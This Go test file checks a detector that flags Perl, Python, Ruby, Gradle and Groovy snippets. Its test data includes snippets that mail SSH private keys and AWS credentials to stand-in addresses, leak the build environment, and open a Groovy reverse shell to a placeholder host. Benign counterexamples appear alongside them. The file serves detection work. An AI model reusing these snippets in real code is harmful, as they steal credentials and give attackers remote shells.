package code

import "testing"

// TestLineageHandles holds that names of handles are followed, and programs that mail what they are told.
func TestLineageHandles(t *testing.T) {
	const sends = "sends what is in the home directory"
	for text, want := range map[string]string{
		"my $id = (glob(\"$ENV{HOME}/.ssh/id_*\"))[0];\nif (open my $fh, '<', $id) {\n  local $/; my $k = <$fh>;\n  open my $m, '|-', 'sendmail', 'a@b.co';\n  print $m \"Subject: x\\n\\n$k\"; close $m;\n}\n": sends,
		"open(my $in, '<', \"$ENV{HOME}/.aws/credentials\") or die;\nmy @l = <$in>;\nopen(my $out, '| mail -s x a@b.co') or die;\nprint {$out} @l;\n":                                                           sends,
		"k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\np = subprocess.Popen(['sendmail', 'x@y.co'], stdin=subprocess.PIPE)\np.communicate(k.encode())\n":                                                sends,
		"k = File.read(File.expand_path('~/.ssh/id_rsa'))\nIO.popen(['msmtp', 'x@y.co'], 'w') { |m| m.puts k }\n":                                                                                               sends,
		"buildScan {\n  (System.getenv() + p).forEach { (k, v) -> value(k, v) }\n}\n":                                                                                                                           "sends all of its environment",
		"buildScan {\n  value(\"commit\", System.getenv(\"GIT_COMMIT\"))\n}\n":                                                                                                                                  "",
		"open(my $in, '<', \"notes.txt\") or die;\nmy @l = <$in>;\nopen(my $out, '| mail -s x a@b.co') or die;\nprint {$out} @l;\n":                                                                             "",
		"open(my $in, '<', \"$ENV{HOME}/.latexmkrc\");\nopen my $o, '>', 'x.txt'; print $o <$in>;\n":                                                                                                            "",
		"Thread.start {\n  def s = new Socket('a.b.co', 44)\n  def p = ['/bin/sh'].execute()\n  p.outputStream << s.inputStream\n}\n":                                                                           "hands a shell to another machine",
		"def p = ['git', 'status'].execute()\nprintln p.text\n":                                                                                                                                                 "",
	} {
		if why, known := Lineage(text, func(int) bool { return true }); why != want || !known {
			t.Errorf("%s\n%q, want %q", text, why, want)
		}
	}
}
